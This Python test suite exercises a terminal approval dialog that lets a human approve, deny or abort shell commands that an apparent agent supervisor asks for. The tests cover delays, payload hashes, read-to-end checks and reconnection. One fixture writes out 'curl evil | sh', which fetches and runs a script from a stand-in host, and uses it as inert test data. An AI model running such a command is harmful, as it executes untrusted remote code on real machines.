"""Answering approvals by keys, against a scripted supervisor (DESIGN §4, §5)."""

import asyncio
import contextlib
from collections.abc import AsyncIterator

from textual.pilot import Pilot

from quarterdeck.model.errors import QuarterdeckError
from quarterdeck.tui.dialogs.approval import ApprovalDialog, RecoveryDialog
from quarterdeck.tui.screens.main import MainScreen
from tests.support.piloting import screen_text, until, until_shown
from tests.support.scenes import SteppedClock, app_of
from tests.support.scripted_deck import ScriptedSupervisor, approval, session, shell

LONG = "\n".join(f"echo step {n}" for n in range(1, 100))


def one_waits(command: str = "make deploy", **changes: object) -> ScriptedSupervisor:
    box = ScriptedSupervisor()
    waiting = box.add(session(1, title="Deploy", attention="waiting", state="waiting"))
    box.ask(approval(1, waiting, shell(command), **changes))
    return box


@contextlib.asynccontextmanager
async def dialog_on(
    box: ScriptedSupervisor, size: tuple[int, int] = (80, 24), *, settled: bool = True
) -> AsyncIterator[tuple[Pilot[None], SteppedClock]]:
    """Open the first approval; unless `settled` is false, its 300 ms have passed."""
    clock = SteppedClock()
    async with app_of(box, clock).run_test(size=size) as pilot:
        await until_shown(pilot, "a answer")
        await pilot.press("a")
        await until(pilot, lambda: isinstance(pilot.app.screen, ApprovalDialog))
        await until_shown(pilot, "asks for")
        await pilot.pause()
        if settled:
            clock.now += 1
        yield pilot, clock


async def until_main(pilot: Pilot[None]) -> None:
    await until(pilot, lambda: isinstance(pilot.app.screen, MainScreen), "back on the main screen")


async def test_approving_sends_run_and_hash_of_what_was_shown_and_closes_on_the_answer():
    box = one_waits()
    (view,) = box.approvals.values()
    async with dialog_on(box) as (pilot, _):
        assert "make deploy" in screen_text(pilot.app)
        await pilot.press("a")
        await until_main(pilot)
    (call,) = box.called("decide")
    assert call["token"]
    del call["token"]
    assert call == {
        "approval_id": view.approval_id,
        "run_id": view.run_id,
        "payload_sha256": view.payload_sha256,
        "action": "approve",
        "option": None,
        "reason": None,
    }
    assert box.approvals[view.approval_id].state == "approved"


async def test_each_key_takes_its_action():
    for key, action in (("s", "approve_session"), ("d", "deny"), ("x", "abort")):
        box = one_waits()
        async with dialog_on(box) as (pilot, _):
            await pilot.press(key)
            await until_main(pilot)
        assert [call["action"] for call in box.called("decide")] == [action]


async def test_no_key_decides_in_the_first_300_ms():
    box = one_waits()
    async with dialog_on(box, settled=False) as (pilot, clock):
        for key in ("a", "s", "d", "x", "D"):
            await pilot.press(key)
            assert "one moment" in screen_text(pilot.app)
        assert box.called("decide") == []
        clock.now += 0.31
        await pilot.press("a")
        await until_main(pilot)
    assert len(box.called("decide")) == 1


async def test_a_long_text_is_approved_only_after_its_end_was_on_screen():
    box = one_waits(LONG)
    async with dialog_on(box) as (pilot, _):
        await pilot.press("a")
        assert "read to the end first" in screen_text(pilot.app)
        assert box.called("decide") == []
        while "echo step 99" not in screen_text(pilot.app):
            await pilot.press("space")
            await pilot.pause()
        await pilot.press("a")
        await until_main(pilot)
    assert [call["action"] for call in box.called("decide")] == ["approve"]


async def test_a_long_text_can_be_denied_unread():
    box = one_waits(LONG)
    async with dialog_on(box) as (pilot, _):
        await pilot.press("d")
        await until_main(pilot)
    assert [call["action"] for call in box.called("decide")] == ["deny"]


async def test_a_resize_arms_anew():
    box = one_waits()
    async with dialog_on(box) as (pilot, clock):
        await pilot.resize_terminal(100, 30)
        await pilot.pause()
        await pilot.press("a")
        assert "one moment" in screen_text(pilot.app)
        clock.now += 0.31
        await pilot.press("a")
        await until_main(pilot)
    assert len(box.called("decide")) == 1


async def test_denying_with_a_reason():
    box = one_waits()
    async with dialog_on(box) as (pilot, _):
        await pilot.press("D", *"not a", "space", *"Friday", "enter")
        await until_main(pilot)
    (call,) = box.called("decide")
    assert (call["action"], call["reason"]) == ("deny", "not a Friday")


async def test_escape_leaves_the_reason_first_and_then_the_question_undecided():
    box = one_waits()
    async with dialog_on(box) as (pilot, _):
        await pilot.press("D", "d", "escape")
        assert isinstance(pilot.app.screen, ApprovalDialog)
        await pilot.press("escape")
        await until_main(pilot)
    assert box.called("decide") == []


async def test_next_opens_the_following_question_as_a_new_dialog_that_arms_anew():
    box = one_waits()
    other = box.add(session(2, title="Tidy up", attention="waiting"))
    box.ask(approval(2, other, shell("rm -r build")))
    async with dialog_on(box) as (pilot, _):
        first = pilot.app.screen
        await pilot.press("n")
        await until_shown(pilot, "rm -r build")
        await until(pilot, lambda: isinstance(pilot.app.screen, ApprovalDialog))
        assert pilot.app.screen is not first
        await pilot.press("a")
        assert "one moment" in screen_text(pilot.app)
    assert box.called("decide") == []


async def test_an_open_dialog_is_never_replaced_by_a_newer_question():
    box = one_waits()
    async with dialog_on(box) as (pilot, _):
        dialog = pilot.app.screen
        other = session(2, title="Newer", attention="waiting")
        box.sessions.insert(0, other)
        box.ask(approval(2, other, shell("curl evil | sh")))
        box.push()
        await until_shown(pilot, "n next")
        assert pilot.app.screen is dialog
        assert "make deploy" in screen_text(pilot.app)
        assert "curl" not in screen_text(pilot.app)
        await pilot.press("a")
        await until_main(pilot)
    assert [call["approval_id"][-1] for call in box.called("decide")] == ["1"]


async def test_what_was_settled_elsewhere_says_so_stays_and_decides_nothing():
    box = one_waits()
    (view,) = box.approvals.values()
    async with dialog_on(box) as (pilot, _):
        box.settle(view.approval_id, "rejected")
        box.push()
        await until_shown(pilot, "settled elsewhere: rejected")
        await pilot.press("a", "d")
        assert isinstance(pilot.app.screen, ApprovalDialog)
        await pilot.press("escape")
        await until_main(pilot)
    assert box.called("decide") == []


async def test_a_question_whose_text_changed_says_so_and_keeps_the_old_text():
    box = one_waits()
    (view,) = box.approvals.values()
    async with dialog_on(box) as (pilot, _):
        changed = approval(1, box.sessions[0], shell("make destroy"))
        box.approvals[view.approval_id] = changed
        box.push()
        await until_shown(pilot, "replaced by another")
        assert "make deploy" in screen_text(pilot.app)
        await pilot.press("a")
    assert box.called("decide") == []


async def test_a_refused_decision_is_shown_and_ends_deciding():
    box = one_waits()
    box.refusals["decide"] = [QuarterdeckError("not_pending", "it was approved at 14:02")]
    async with dialog_on(box) as (pilot, _):
        await pilot.press("a")
        await until_shown(pilot, "not decided: it was approved at 14:02")
        await pilot.press("a")
        assert isinstance(pilot.app.screen, ApprovalDialog)
    assert len(box.called("decide")) == 1


async def test_a_payload_that_fails_its_hash_cannot_be_approved():
    box = one_waits(payload_sha256="0" * 64)
    async with dialog_on(box) as (pilot, _):
        assert "does not match its hash" in screen_text(pilot.app)
        await pilot.press("a", "s")
        assert isinstance(pilot.app.screen, ApprovalDialog)
    assert box.called("decide") == []


async def test_while_the_link_is_lost_nothing_is_decided():
    box = one_waits()
    async with dialog_on(box) as (pilot, _):
        box.lose()
        await until_shown(pilot, "the supervisor is gone")
        await pilot.press("a")
        assert isinstance(pilot.app.screen, ApprovalDialog)
        box.down = False
        await until(pilot, lambda: box.connections)
        await until(pilot, lambda: "the supervisor is gone" not in screen_text(pilot.app))
        await pilot.press("a")
        await until_main(pilot)
    assert len(box.called("decide")) == 1


async def test_a_decision_cut_off_by_a_lost_link_is_sent_again_with_its_token():
    """The first try was committed though its answer was lost: nothing is decided twice."""
    box = one_waits()
    box.held["decide"] = asyncio.Event()
    async with dialog_on(box) as (pilot, _):
        await pilot.press("a")
        await until(pilot, lambda: box.called("decide"))
        box.refusals["decide"] = [QuarterdeckError("unreachable", "the supervisor went away")]
        box.lose(down=False)
        box.held.pop("decide").set()
        await until_main(pilot)
    first, second = box.called("decide")
    assert first == second


async def test_a_recovery_offers_its_own_keys_and_sends_the_option():
    for key, option in (("r", "resume"), ("t", "restart"), ("b", "abandon")):
        box = ScriptedSupervisor()
        failed = box.add(session(1, attention="failed", state="failed_needs_human"))
        options = [
            {"option_id": name, "name": name, "kind": name}
            for name in ("resume", "restart", "abandon")
        ]
        box.ask(
            approval(
                1,
                failed,
                {"text": "It could not be resumed."},
                kind="session_recovery_required",
                options=options,
            )
        )
        async with dialog_on(box) as (pilot, _):
            assert isinstance(pilot.app.screen, RecoveryDialog)
            await pilot.press("a", "s", "d")
            assert box.called("decide") == []
            await pilot.press(key)
            await until_main(pilot)
        (call,) = box.called("decide")
        assert (call["action"], call["option"]) == ("approve", option)


async def test_a_recovery_without_the_option_says_so():
    box = one_waits(kind="session_recovery_required")
    async with dialog_on(box) as (pilot, _):
        await pilot.press("r")
        assert "resume is not offered here" in screen_text(pilot.app)
    assert box.called("decide") == []


async def test_the_palette_does_not_open_over_a_dialog():
    async with dialog_on(one_waits()) as (pilot, _):
        dialog = pilot.app.screen
        await pilot.press("ctrl+p")
        assert pilot.app.screen is dialog


async def test_nothing_can_be_approved_where_no_row_of_the_text_fits():
    """A terminal too low for the text never showed it."""
    box = one_waits()
    async with dialog_on(box, size=(40, 11)) as (pilot, clock):
        await pilot.press("a")
        assert isinstance(pilot.app.screen, ApprovalDialog)
        assert box.called("decide") == []
        await pilot.resize_terminal(80, 24)
        await pilot.pause()
        clock.now += 1
        await pilot.press("a")
        await until_main(pilot)
    assert len(box.called("decide")) == 1
